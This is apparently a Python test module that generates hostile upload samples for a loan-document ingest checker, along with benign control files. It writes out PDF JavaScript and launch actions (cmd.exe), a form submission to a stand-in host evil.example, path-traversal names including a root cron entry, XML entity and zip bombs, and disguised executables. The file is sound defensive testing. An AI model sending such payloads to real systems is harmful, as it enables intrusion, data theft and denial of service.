"""A corpus of hostile uploads, made in the test run (nothing is downloaded).

Each generator returns a :class:`Hostile`: the file name a client would send, the bytes, the
media type it would declare, and a substring the refusal's English text must contain — the
reason, as the ingest checks name it. ``KINDS`` holds every generator by name;
``BENIGN`` holds documents that must be accepted, so that the checks are known not to refuse
everything. The corpus assumes an application whose upload limit is :data:`UPLOAD_LIMIT`.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from typing import NamedTuple

from pypdf import PdfReader, PdfWriter
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    TextStringObject,
)

from tests.factories import make_pdf, make_png

UPLOAD_LIMIT = 512 * 1024
"""The upload limit of the application the corpus is sent to (``oversized`` exceeds it)."""

PDF = "application/pdf"
HEADER = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"
MZ = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 44 + b"PE\x00\x00"


class Hostile(NamedTuple):
    """One hostile upload: name, bytes, declared media type, expected reason (English)."""

    filename: str
    data: bytes
    media_type: str
    reason: str


KINDS: dict[str, Callable[[], Hostile]] = {}
BENIGN: dict[str, Callable[[], Hostile]] = {}


def kind(name: str) -> Callable[[Callable[[], Hostile]], Callable[[], Hostile]]:
    def register(generator: Callable[[], Hostile]) -> Callable[[], Hostile]:
        KINDS[name] = generator
        return generator

    return register


def benign(name: str) -> Callable[[Callable[[], Hostile]], Callable[[], Hostile]]:
    def register(generator: Callable[[], Hostile]) -> Callable[[], Hostile]:
        BENIGN[name] = generator
        return generator

    return register


# ------------------------------------------------------------------------- PDF builders
def raw_pdf(objects: list[bytes], *, header: bytes = HEADER, trailer: bytes = b"") -> bytes:
    """A PDF of ``objects`` (object 1 first, object 1 the catalog) with a correct xref table."""
    out = bytearray(header)
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R %s>>\n" % (len(objects) + 1, trailer)
    out += b"startxref\n%d\n%%%%EOF\n" % xref
    return bytes(out)


def packed_pdf(objects: list[bytes], *, header: bytes = HEADER) -> bytes:
    """A PDF 1.5 as office software writes it: every object that is not a stream packed in one
    compressed object stream, and a cross-reference stream instead of a table."""
    count = len(objects)
    objstm, xref_number = count + 1, count + 2
    packed = [n for n, body in enumerate(objects, start=1) if b"stream" not in body]
    index, bodies = b"", b""
    for number in packed:
        index += b"%d %d " % (number, len(bodies))
        bodies += objects[number - 1] + b"\n"
    index += b"\n"
    data = zlib.compress(index + bodies)
    out = bytearray(header)
    offsets = {}
    loose = [(n, objects[n - 1]) for n in range(1, count + 1) if n not in packed]
    entries = b"/Type /ObjStm /N %d /First %d /Filter /FlateDecode " % (len(packed), len(index))
    for number, body in [*loose, (objstm, stream(data, entries))]:
        offsets[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    offsets[xref_number] = len(out)
    rows = struct.pack(">BIH", 0, 0, 65535)
    for number in range(1, xref_number + 1):
        if number in offsets:
            rows += struct.pack(">BIH", 1, offsets[number], 0)
        else:
            rows += struct.pack(">BIH", 2, objstm, packed.index(number))
    xref = stream(rows, b"/Type /XRef /Size %d /W [1 4 2] /Root 1 0 R " % (xref_number + 1))
    out += b"%d 0 obj\n%s\nendobj\n" % (xref_number, xref)
    out += b"startxref\n%d\n%%%%EOF\n" % offsets[xref_number]
    return bytes(out)


def stream(data: bytes, entries: bytes = b"") -> bytes:
    return b"<< /Length %d %s>>\nstream\n%s\nendstream" % (len(data), entries, data)


def one_page(
    *,
    catalog: bytes = b"",
    page: bytes = b"",
    pages: bytes = b"/Kids [3 0 R] /Count 1",
    extra: tuple[bytes, ...] = (),
    header: bytes = HEADER,
    packed: bool = False,
) -> bytes:
    """A one-page PDF; ``catalog``, ``page`` and ``pages`` add entries, ``extra`` objects 6…

    ``packed`` writes it with an object stream and a cross-reference stream (``packed_pdf``).
    """
    return (packed_pdf if packed else raw_pdf)(
        [
            b"<< /Type /Catalog /Pages 2 0 R %s >>" % catalog,
            b"<< /Type /Pages %s >>" % pages,
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] "
            b"/Resources << /Font << /F1 4 0 R >> >> /Contents 5 0 R %s >>" % page,
            b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
            stream(b"BT /F1 12 Tf 72 760 Td (Post-loan inspection report) Tj ET"),
            *extra,
        ],
        header=header,
    )


def _link(action: bytes) -> bytes:
    return b"<< /Type /Annot /Subtype /Link /Rect [72 700 300 720] /Border [0 0 0] /A %s >>" % (
        action
    )


def _written(writer: PdfWriter) -> bytes:
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def _contract() -> bytes:
    return make_pdf("借款合同 编号 JJ2025011000002")


def _zip() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("payload.html", "<script>alert(document.cookie)</script>")
    return buffer.getvalue()


# ------------------------------------------------------------------------ image builders
def make_jpeg() -> bytes:
    """A valid 8x8 grey baseline JPEG, written by hand: one all-grey block.

    The Huffman tables hold one code each (DC category 0, AC end-of-block), so the whole
    entropy-coded scan is two bits, padded with ones.
    """

    def segment(marker: int, body: bytes) -> bytes:
        return struct.pack(">BBH", 0xFF, marker, len(body) + 2) + body

    quant = segment(0xDB, b"\x00" + bytes([1] * 64))
    frame = segment(0xC0, struct.pack(">BHHB", 8, 8, 8, 1) + b"\x01\x11\x00")
    dc = segment(0xC4, b"\x00" + bytes([1] + [0] * 15) + b"\x00")
    ac = segment(0xC4, b"\x10" + bytes([1] + [0] * 15) + b"\x00")
    scan = segment(0xDA, b"\x01\x01\x00\x00\x3f\x00")
    jfif = segment(0xE0, b"JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00")
    return b"\xff\xd8" + jfif + quant + frame + dc + ac + scan + b"\x3f" + b"\xff\xd9"


def make_tiff() -> bytes:
    """A valid 1x1 grey uncompressed TIFF, written by hand."""
    entries = [
        (256, 3, 1, 1),  # ImageWidth
        (257, 3, 1, 1),  # ImageLength
        (258, 3, 1, 8),  # BitsPerSample
        (259, 3, 1, 1),  # Compression: none
        (262, 3, 1, 1),  # PhotometricInterpretation: black is zero
        (273, 4, 1, 8 + 2 + 12 * 9 + 4),  # StripOffsets: right after the IFD
        (277, 3, 1, 1),  # SamplesPerPixel
        (278, 3, 1, 1),  # RowsPerStrip
        (279, 4, 1, 1),  # StripByteCounts
    ]
    ifd = struct.pack("<H", len(entries))
    for tag, kind_, count, value in entries:
        packed = struct.pack("<HI", value, 0)[:4] if kind_ == 3 else struct.pack("<I", value)
        ifd += struct.pack("<HHI", tag, kind_, count) + packed
    return b"II*\x00" + struct.pack("<I", 8) + ifd + b"\x00\x00\x00\x00" + b"\x80"


# -------------------------------------------------------------------------- OFD builders
OFD = "application/ofd"
OFD_NS = "http://www.ofdspec.org/2016"
OFD_XML = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    f'<ofd:OFD xmlns:ofd="{OFD_NS}" Version="1.0" DocType="OFD"><ofd:DocBody>'
    "<ofd:DocInfo><ofd:DocID>6f6664000000000000000000000000a1</ofd:DocID>"
    "<ofd:Title>还款凭证</ofd:Title><ofd:CreationDate>2025-04-01</ofd:CreationDate>"
    "</ofd:DocInfo><ofd:DocRoot>{root}</ofd:DocRoot></ofd:DocBody></ofd:OFD>"
)


def ofd_page(text: str, *, inner: str = "") -> str:
    """One page's Content.xml: a layer holding one line of text (and ``inner``, if any)."""
    return (
        f'<?xml version="1.0" encoding="UTF-8"?><ofd:Page xmlns:ofd="{OFD_NS}"><ofd:Content>'
        '<ofd:Layer ID="3"><ofd:TextObject ID="4" Boundary="20 20 170 10" Font="2" Size="5">'
        f'<ofd:TextCode X="0" Y="5">{text}</ofd:TextCode></ofd:TextObject>{inner}</ofd:Layer>'
        "</ofd:Content></ofd:Page>"
    )


def ofd_document(pages: int, *, inner: str = "") -> str:
    """Doc_0/Document.xml listing ``pages`` pages (``inner`` goes after the page list)."""
    listed = "".join(
        f'<ofd:Page ID="{10 + n}" BaseLoc="Pages/Page_{n}/Content.xml"/>' for n in range(pages)
    )
    return (
        f'<?xml version="1.0" encoding="UTF-8"?><ofd:Document xmlns:ofd="{OFD_NS}">'
        "<ofd:CommonData><ofd:MaxUnitID>20</ofd:MaxUnitID><ofd:PageArea>"
        "<ofd:PhysicalBox>0 0 210 297</ofd:PhysicalBox></ofd:PageArea>"
        "<ofd:PublicRes>PublicRes.xml</ofd:PublicRes></ofd:CommonData>"
        f"<ofd:Pages>{listed}</ofd:Pages>{inner}</ofd:Document>"
    )


def ofd_parts(pages: int = 2, *, listed: int | None = None) -> dict[str, str | bytes]:
    """The parts of a plain OFD of ``pages`` pages ("第N页 还款凭证" on each), its Document.xml
    listing ``listed`` of them (all, unless said)."""
    parts: dict[str, str | bytes] = {
        "OFD.xml": OFD_XML.format(root="Doc_0/Document.xml"),
        "Doc_0/Document.xml": ofd_document(pages if listed is None else listed),
        "Doc_0/PublicRes.xml": (
            f'<?xml version="1.0" encoding="UTF-8"?><ofd:Res xmlns:ofd="{OFD_NS}" BaseLoc="Res">'
            '<ofd:Fonts><ofd:Font ID="2" FontName="宋体" FamilyName="宋体"/></ofd:Fonts></ofd:Res>'
        ),
    }
    for n in range(pages):
        parts[f"Doc_0/Pages/Page_{n}/Content.xml"] = ofd_page(f"第{n + 1}页 还款凭证")
    return parts


def make_ofd(
    parts: dict[str, str | bytes] | None = None, *, compression: int = zipfile.ZIP_DEFLATED
) -> bytes:
    """An OFD package (a ZIP) of ``parts`` (a plain two-page OFD unless given), in order."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as package:
        for name, data in (ofd_parts() if parts is None else parts).items():
            package.writestr(name, data)
    return buffer.getvalue()


def _ofd(parts: dict[str, str | bytes], reason: str) -> Hostile:
    return Hostile("还款凭证.ofd", make_ofd(parts), OFD, reason)


# ============================================================================== the corpus
# ----------------------------------------------------------------- not one clean PDF
@kind("empty")
def empty() -> Hostile:
    return Hostile("借款合同.pdf", b"", PDF, "empty")


@kind("header_only")
def header_only() -> Hostile:
    return Hostile("借款合同.pdf", b"%PDF-1.7\n", PDF, "cannot be parsed")


@kind("truncated")
def truncated() -> Hostile:
    whole = make_pdf("借款合同（不完整）", pages=3)
    return Hostile("借款合同.pdf", whole[: len(whole) * 2 // 3], PDF, "cannot be parsed")


@kind("garbage_after_eof")
def garbage_after_eof() -> Hostile:
    hidden = b"{\\rtf1\\ansi hidden second document: transfer 1,000,000 to account 6222...}\n"
    return Hostile("检查报告.pdf", _contract() + hidden, PDF, "after the final %%EOF")


@kind("concatenated")
def concatenated() -> Hostile:
    return Hostile("借款合同.pdf", _contract() + make_pdf("另一份合同"), PDF, "second %PDF- header")


@kind("polyglot_zip_appended")
def polyglot_zip_appended() -> Hostile:
    return Hostile("借款合同.pdf", _contract() + _zip(), PDF, "after the final %%EOF")


@kind("polyglot_zip_inside")
def polyglot_zip_inside() -> Hostile:
    # The ZIP sits in an unreferenced stream just before the xref: a ZIP reader finds its
    # end record near the end of the file, and the PDF still ends cleanly with %%EOF.
    return Hostile("借款合同.pdf", one_page(extra=(stream(_zip()),)), PDF, "ZIP")


@kind("polyglot_html_appended")
def polyglot_html_appended() -> Hostile:
    html = b"<html><body><script>location='https://evil.example/'</script></body></html>"
    return Hostile("借款合同.pdf", _contract() + html, PDF, "after the final %%EOF")


@kind("html_behind_pdf_header")
def html_behind_pdf_header() -> Hostile:
    # Starts with %PDF- to pass a magic-number check; everything after is an HTML page.
    page = b"%PDF-1.4 <!-- -->\n<html><body><script>alert(document.domain)</script></body></html>\n"
    return Hostile("借款合同.pdf", page, PDF, "HTML markup")


@kind("html_in_pdf_comment")
def html_in_pdf_comment() -> Hostile:
    header = HEADER + b"%<html><script>alert(document.domain)</script></html>\n"
    return Hostile("借款合同.pdf", one_page(header=header), PDF, "HTML markup")


# --------------------------------------------------------------------- unreadable
@kind("encrypted")
def encrypted() -> Hostile:
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(_contract())))
    writer.encrypt(user_password="", owner_password="owner-secret", algorithm="AES-128")
    return Hostile("借款合同.pdf", _written(writer), PDF, "encrypted")


# ------------------------------------------------------------------ active content
@kind("js_open_action")
def js_open_action() -> Hostile:
    data = one_page(
        catalog=b"/OpenAction 6 0 R",
        extra=(b"<< /Type /Action /S /JavaScript /JS (app.alert\\('pwned'\\);) >>",),
    )
    return Hostile("检查报告.pdf", data, PDF, "JavaScript")


@kind("js_names_tree")
def js_names_tree() -> Hostile:
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(_contract())))
    action = DictionaryObject(
        {
            NameObject("/S"): NameObject("/JavaScript"),
            NameObject("/JS"): TextStringObject("this.exportDataObject({cName: 'a', nLaunch: 2});"),
        }
    )
    scripts = ArrayObject([TextStringObject("init"), action])
    writer.root_object[NameObject("/Names")] = DictionaryObject(
        {NameObject("/JavaScript"): DictionaryObject({NameObject("/Names"): scripts})}
    )
    return Hostile("借款合同.pdf", _written(writer), PDF, "JavaScript")


@kind("js_page_additional_action")
def js_page_additional_action() -> Hostile:
    # /O: run when the page is opened.
    data = one_page(
        page=b"/AA << /O 6 0 R >>", extra=(b"<< /S /JavaScript /JS (this.print\\(\\);) >>",)
    )
    return Hostile("检查报告.pdf", data, PDF, "JavaScript")


@kind("js_stream_in_link")
def js_stream_in_link() -> Hostile:
    # The script is a stream, the action sits on a link annotation.
    data = one_page(
        page=b"/Annots [6 0 R]",
        extra=(_link(b"<< /S /JavaScript /JS 7 0 R >>"), stream(b"app.launchURL('x');")),
    )
    return Hostile("检查报告.pdf", data, PDF, "JavaScript")


@kind("js_form_field")
def js_form_field() -> Hostile:
    field = (
        b"<< /FT /Tx /T (amount) /Type /Annot /Subtype /Widget /Rect [72 600 300 620] "
        b"/P 3 0 R /AA << /K << /S /JavaScript /JS (event.rc = true;) >> >> >>"
    )
    data = one_page(catalog=b"/AcroForm << /Fields [6 0 R] >>", extra=(field,))
    return Hostile("检查报告.pdf", data, PDF, "JavaScript")


@kind("js_hex_escaped_names")
def js_hex_escaped_names() -> Hostile:
    # /J#61vaScript and /J#53 are /JavaScript and /JS once the name escapes are decoded.
    data = one_page(
        catalog=b"/OpenAction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>",
    )
    return Hostile("检查报告.pdf", data, PDF, "JavaScript")


@kind("js_in_object_stream")
def js_in_object_stream() -> Hostile:
    # Compressed inside an object stream: no trace of it in the raw bytes.
    data = one_page(
        catalog=b"/OpenAction 6 0 R",
        extra=(b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>",),
        packed=True,
    )
    return Hostile("检查报告.pdf", data, PDF, "JavaScript")


@kind("js_in_damaged_catalog")
def js_in_damaged_catalog() -> Hostile:
    # pypdf recovers the catalog without its broken /Names entry; a more forgiving reader
    # may not. Only the raw scan of the bytes sees the script.
    names = b"/Names R<< /JavaScript << /Names [(init) << /S /JavaScript /JS (app.alert\\(1\\)) >>] >> >>"
    return Hostile("检查报告.pdf", one_page(catalog=names), PDF, "JavaScript")


@kind("launch_action")
def launch_action() -> Hostile:
    action = b"<< /S /Launch /Win << /F (cmd.exe) /P (/c calc.exe) >> /F (cmd.exe) >>"
    data = one_page(catalog=b"/OpenAction 6 0 R", extra=(action,))
    return Hostile("检查报告.pdf", data, PDF, "launch action")


@kind("launch_in_object_stream")
def launch_in_object_stream() -> Hostile:
    data = one_page(catalog=b"/OpenAction << /S /Launch /F (cmd.exe) >>", packed=True)
    return Hostile("检查报告.pdf", data, PDF, "launch action")


@kind("uri_file")
def uri_file() -> Hostile:
    link = _link(b"<< /S /URI /URI (file:///C:/Windows/System32/calc.exe) >>")
    data = one_page(page=b"/Annots [6 0 R]", extra=(link,))
    return Hostile("检查报告.pdf", data, PDF, "URI action with a disallowed scheme (file)")


@kind("uri_javascript")
def uri_javascript() -> Hostile:
    # Leading spaces and a tab inside the scheme: browsers ignore both.
    link = _link(b"<< /S /URI /URI (  Java\tScript:alert\\(document.cookie\\)) >>")
    data = one_page(page=b"/Annots [6 0 R]", extra=(link,))
    return Hostile("检查报告.pdf", data, PDF, "URI action with a disallowed scheme (javascript)")


@kind("remote_goto")
def remote_goto() -> Hostile:
    link = _link(b"<< /S /GoToR /F (\\\\\\\\fileserver\\\\share\\\\payload.pdf) /D [0 /Fit] >>")
    data = one_page(page=b"/Annots [6 0 R]", extra=(link,))
    return Hostile("检查报告.pdf", data, PDF, "opens another file")


@kind("submit_form")
def submit_form() -> Hostile:
    action = b"<< /S /SubmitForm /F << /FS /URL /F (https://evil.example/collect) >> >>"
    data = one_page(catalog=b"/OpenAction 6 0 R", extra=(action,))
    return Hostile("检查报告.pdf", data, PDF, "submits a form")


@kind("xfa_form")
def xfa_form() -> Hostile:
    xfa = stream(b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template/></xdp:xdp>')
    data = one_page(catalog=b"/AcroForm << /Fields [] /XFA 6 0 R >>", extra=(xfa,))
    return Hostile("检查报告.pdf", data, PDF, "XFA")


# ----------------------------------------------------------------- embedded files
@kind("embedded_executable")
def embedded_executable() -> Hostile:
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(_contract())))
    writer.add_attachment("发票.exe", MZ + b"\x00" * 512)
    return Hostile("借款合同.pdf", _written(writer), PDF, "embedded file")


@kind("file_attachment_annotation")
def file_attachment_annotation() -> Hostile:
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(_contract())))
    annotation = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/FileAttachment"),
            NameObject("/Rect"): ArrayObject([FloatObject(v) for v in (72, 72, 92, 92)]),
            NameObject("/Contents"): TextStringObject("附件"),
            NameObject("/FS"): DictionaryObject(
                {
                    NameObject("/Type"): NameObject("/Filespec"),
                    NameObject("/F"): TextStringObject("readme.txt"),
                }
            ),
        }
    )
    writer.add_annotation(0, annotation)
    return Hostile("借款合同.pdf", _written(writer), PDF, "embedded file")


@kind("embedded_file_stream")
def embedded_file_stream() -> Hostile:
    # An orphan /EmbeddedFile stream that nothing references: a repairing viewer finds it.
    data = one_page(
        extra=(stream(MZ, b"/Type /EmbeddedFile /Subtype /application#2Fx-msdownload"),)
    )
    return Hostile("借款合同.pdf", data, PDF, "embedded file")


@kind("embedded_file_in_object_stream")
def embedded_file_in_object_stream() -> Hostile:
    names = b"/Names << /EmbeddedFiles << /Names [(a.exe) 6 0 R] >> >>"
    spec = b"<< /Type /Filespec /F (a.exe) /EF << /F 7 0 R >> >>"
    data = one_page(catalog=names, extra=(spec, stream(MZ, b"/Type /EmbeddedFile ")), packed=True)
    return Hostile("借款合同.pdf", data, PDF, "embedded file")


# -------------------------------------------------------------- structure bombs
@kind("nested_array_bomb")
def nested_array_bomb() -> Hostile:
    depth = 100_000
    data = one_page(catalog=b"/Bomb 6 0 R", extra=(b"[" * depth + b"]" * depth,))
    return Hostile("借款合同.pdf", data, PDF, "too deep")


@kind("nested_dictionary")
def nested_dictionary() -> Hostile:
    # Deeper than the inspection's limit (64) yet shallow enough for pypdf's parser.
    depth = 200
    data = one_page(catalog=b"/Deep 6 0 R", extra=(b"<< /A " * depth + b"1" + b" >>" * depth,))
    return Hostile("借款合同.pdf", data, PDF, "too deep")


@kind("huge_page_count")
def huge_page_count() -> Hostile:
    data = one_page(pages=b"/Kids [3 0 R] /Count 1000000000")
    return Hostile("借款合同.pdf", data, PDF, "declared page count")


@kind("cyclic_page_tree")
def cyclic_page_tree() -> Hostile:
    data = one_page(pages=b"/Kids [3 0 R 2 0 R] /Count 2")
    return Hostile("借款合同.pdf", data, PDF, "cyclic")


@kind("page_listed_twice")
def page_listed_twice() -> Hostile:
    data = one_page(pages=b"/Kids [3 0 R 3 0 R] /Count 2")
    return Hostile("借款合同.pdf", data, PDF, "lists a page twice")


@kind("oversized")
def oversized() -> Hostile:
    # A valid PDF whose one unreferenced stream makes it one byte larger than the limit.
    excess = len(one_page(extra=(stream(b"0" * UPLOAD_LIMIT),))) - (UPLOAD_LIMIT + 1)
    data = one_page(extra=(stream(b"0" * (UPLOAD_LIMIT - excess)),))
    assert len(data) == UPLOAD_LIMIT + 1
    return Hostile("借款合同.pdf", data, PDF, "larger than the limit")


# ------------------------------------------------------------------------ wrong type
@kind("jpeg_named_pdf")
def jpeg_named_pdf() -> Hostile:
    return Hostile("借款合同.pdf", make_jpeg(), PDF, "extension does not match")


@kind("png_named_pdf")
def png_named_pdf() -> Hostile:
    return Hostile("借款合同.pdf", make_png(), PDF, "extension does not match")


@kind("declared_type_mismatch")
def declared_type_mismatch() -> Hostile:
    return Hostile("借款合同.pdf", _contract(), "image/png", "declared type image/png")


@kind("exe_named_pdf")
def exe_named_pdf() -> Hostile:
    return Hostile("借款合同.pdf", MZ + b"\x00" * 4096, PDF, "not an allowed format")


@kind("svg")
def svg() -> Hostile:
    image = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect/></svg>'
    return Hostile("印章.svg", image, "image/svg+xml", "not an allowed format")


@kind("html_named_pdf")
def html_named_pdf() -> Hostile:
    page = b"<!doctype html><html><script>alert(1)</script></html>"
    return Hostile("借款合同.pdf", page, PDF, "not an allowed format")


@kind("png_bad_header_crc")
def png_bad_header_crc() -> Hostile:
    image = bytearray(make_png())
    image[29] ^= 0xFF  # inside IHDR's CRC
    return Hostile("现场照片.png", bytes(image), "image/png", "CRC")


@kind("png_with_zip_appended")
def png_with_zip_appended() -> Hostile:
    return Hostile("现场照片.png", make_png() + _zip(), "image/png", "after the end of the PNG")


@kind("jpeg_truncated")
def jpeg_truncated() -> Hostile:
    return Hostile("现场照片.jpg", make_jpeg()[:-2], "image/jpeg", "EOI")


@kind("jpeg_without_frame")
def jpeg_without_frame() -> Hostile:
    return Hostile("现场照片.jpg", b"\xff\xd8\xff\xd9", "image/jpeg", "no SOF")


@kind("tiff_directory_outside")
def tiff_directory_outside() -> Hostile:
    image = b"II*\x00" + struct.pack("<I", 1_000_000) + b"\x00" * 64
    return Hostile("抵押物照片.tif", image, "image/tiff", "IFD")


# ------------------------------------------------------------------------ file names
@kind("name_surrogate_escaped")
def name_surrogate_escaped() -> Hostile:
    name = "借款合同".encode("gbk").decode("utf-8", "surrogateescape") + ".pdf"
    return Hostile(name, _contract(), PDF, "not valid text")


@kind("name_replacement_character")
def name_replacement_character() -> Hostile:
    name = "借款合同".encode("gbk").decode("utf-8", "replace") + ".pdf"
    return Hostile(name, _contract(), PDF, "not valid text")


@kind("name_gbk_mojibake")
def name_gbk_mojibake() -> Hostile:
    # How a web framework decodes a multipart file name sent in GBK: as Latin-1.
    return Hostile(
        "借款合同.pdf".encode("gbk").decode("latin-1"), _contract(), PDF, "not valid text"
    )


@kind("name_utf8_mojibake")
def name_utf8_mojibake() -> Hostile:
    return Hostile("借款合同.pdf".encode().decode("latin-1"), _contract(), PDF, "not valid text")


@kind("path_traversal")
def path_traversal() -> Hostile:
    return Hostile("../../etc/passwd.pdf", _contract(), PDF, "path")


@kind("path_traversal_windows")
def path_traversal_windows() -> Hostile:
    return Hostile("..\\..\\boot.ini.pdf", _contract(), PDF, "path")


@kind("absolute_path")
def absolute_path() -> Hostile:
    return Hostile("/etc/passwd.pdf", _contract(), PDF, "path")


@kind("nul_in_name")
def nul_in_name() -> Hostile:
    return Hostile("借款合同.pdf\x00.exe", _contract(), PDF, "control characters")


@kind("right_to_left_override_name")
def right_to_left_override_name() -> Hostile:
    # Shows as "借款合同exe.pdf" in a list; the characters say "…\u202efdp.exe"-style tricks.
    return Hostile("借款合同\u202eexe.pdf", _contract(), PDF, "control characters")


@kind("windows_reserved_name")
def windows_reserved_name() -> Hostile:
    return Hostile("CON.pdf", _contract(), PDF, "reserved by Windows")


@kind("windows_forbidden_character")
def windows_forbidden_character() -> Hostile:
    return Hostile("借款合同.pdf:Zone.Identifier", _contract(), PDF, "Windows does not allow")


@kind("only_an_extension")
def only_an_extension() -> Hostile:
    return Hostile(".pdf", _contract(), PDF, "only an extension")


# ----------------------------------------------------------------------------------- OFD
@kind("ofd_not_a_zip")
def ofd_not_a_zip() -> Hostile:
    return Hostile("还款凭证.ofd", b"PK\x03\x04" + b"\x00" * 64, OFD, "not a ZIP package")


@kind("ofd_without_ofd_xml")
def ofd_without_ofd_xml() -> Hostile:
    parts = ofd_parts()
    del parts["OFD.xml"]
    return _ofd(parts, "no OFD.xml at its root")


@kind("ofd_path_traversal_entry")
def ofd_path_traversal_entry() -> Hostile:
    return _ofd({**ofd_parts(), "../../etc/cron.d/evil": b"* * * * * root sh"}, "path traversal")


@kind("ofd_doc_root_outside")
def ofd_doc_root_outside() -> Hostile:
    parts = {**ofd_parts(), "OFD.xml": OFD_XML.format(root="../Doc_0/Document.xml")}
    return _ofd(parts, "path traversal")


@kind("ofd_zip_bomb")
def ofd_zip_bomb() -> Hostile:
    # 16 MiB of zeros packs into some 16 KiB: a ratio near 1000.
    return _ofd({**ofd_parts(), "Doc_0/Res/image_5.png": bytes(16 * 1024 * 1024)}, "zip bomb")


@kind("ofd_javascript")
def ofd_javascript() -> Hostile:
    parts = ofd_parts()
    script = "<ofd:JavaScript>app.launchURL('http://example.invalid/')</ofd:JavaScript>"
    parts["Doc_0/Document.xml"] = ofd_document(2, inner=script)
    return _ofd(parts, "script (JavaScript)")


@kind("ofd_actions")
def ofd_actions() -> Hostile:
    parts = ofd_parts()
    action = (
        '<ofd:Actions><ofd:Action Event="DO"><ofd:URI URI="file:///C:/Windows/calc.exe"/>'
        "</ofd:Action></ofd:Actions>"
    )
    parts["Doc_0/Pages/Page_1/Content.xml"] = ofd_page("第2页", inner=action)
    return _ofd(parts, "actions (Actions)")


@kind("ofd_doctype_entities")
def ofd_doctype_entities() -> Hostile:
    laughs = (
        '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
        + "".join(
            f'<!ENTITY lol{n + 1} "{("&lol" + (str(n) if n else "") + ";") * 10}">'
            for n in range(9)
        )
        + "]>"
    )
    parts = ofd_parts()
    parts["Doc_0/Pages/Page_0/Content.xml"] = laughs + ofd_page("&lol9;").split("?>", 1)[1]
    return _ofd(parts, "document type declaration")


@kind("ofd_too_deep")
def ofd_too_deep() -> Hostile:
    parts = ofd_parts()
    nested = "<ofd:PageBlock>" * 500 + "</ofd:PageBlock>" * 500
    parts["Doc_0/Pages/Page_0/Content.xml"] = ofd_page("第1页", inner=nested)
    return _ofd(parts, "nested too deep")


@kind("ofd_page_missing")
def ofd_page_missing() -> Hostile:
    # Document.xml lists three pages; the package holds two.
    return _ofd(ofd_parts(2, listed=3), "page count does not match")


@kind("ofd_page_unlisted")
def ofd_page_unlisted() -> Hostile:
    # The package holds two pages; Document.xml lists one (a page no viewer shows).
    return _ofd(ofd_parts(2, listed=1), "page count does not match")


@kind("ofd_executable_inside")
def ofd_executable_inside() -> Hostile:
    return _ofd({**ofd_parts(), "Doc_0/Res/viewer.exe": MZ + bytes(4096)}, "executable")


@kind("ofd_named_pdf")
def ofd_named_pdf() -> Hostile:
    return Hostile("还款凭证.pdf", make_ofd(), PDF, "does not match its content")


# ========================================================================= benign controls
@benign("pdf_with_web_and_mail_links")
def pdf_with_web_and_mail_links() -> Hostile:
    from reportlab.pdfgen import canvas

    buffer = io.BytesIO()
    page = canvas.Canvas(buffer, invariant=True)
    page.drawString(72, 760, "Regulation: https://www.nfra.gov.cn/ - contact: archive@bank.example")
    page.linkURL("https://www.nfra.gov.cn/", (72, 755, 300, 772), relative=0)
    page.linkURL("mailto:archive@bank.example", (300, 755, 500, 772), relative=0)
    page.bookmarkPage("p1")
    page.addOutlineEntry("第一页", "p1")
    page.showPage()
    page.save()
    return Hostile("监管规定.pdf", buffer.getvalue(), PDF, "")


@benign("multi_page_pdf")
def multi_page_pdf() -> Hostile:
    return Hostile("贷后检查报告.pdf", make_pdf("贷后检查报告 第一季度", pages=7), PDF, "")


@benign("pdf_rewritten_by_pypdf")
def pdf_rewritten_by_pypdf() -> Hostile:
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(make_pdf("合同 复印件", pages=2))))
    writer.add_metadata({"/Title": "借款合同复印件"})
    writer.compress_identical_objects()
    return Hostile("借款合同复印件.pdf", _written(writer), "application/octet-stream", "")


@benign("pdf_with_object_streams")
def pdf_with_object_streams() -> Hostile:
    link = _link(b"<< /S /URI /URI (https://www.pbc.gov.cn/) >>")
    data = one_page(page=b"/Annots [6 0 R]", extra=(link,), packed=True)
    return Hostile("检查报告.pdf", data, PDF, "")


@benign("png")
def png() -> Hostile:
    return Hostile("现场照片.png", make_png(), "image/png", "")


@benign("jpeg")
def jpeg() -> Hostile:
    return Hostile("现场照片.jpg", make_jpeg(), "image/jpeg", "")


@benign("tiff")
def tiff() -> Hostile:
    return Hostile("抵押物照片.tif", make_tiff(), "image/tiff", "")


@benign("ofd")
def ofd() -> Hostile:
    return Hostile("还款凭证.ofd", make_ofd(), OFD, "")
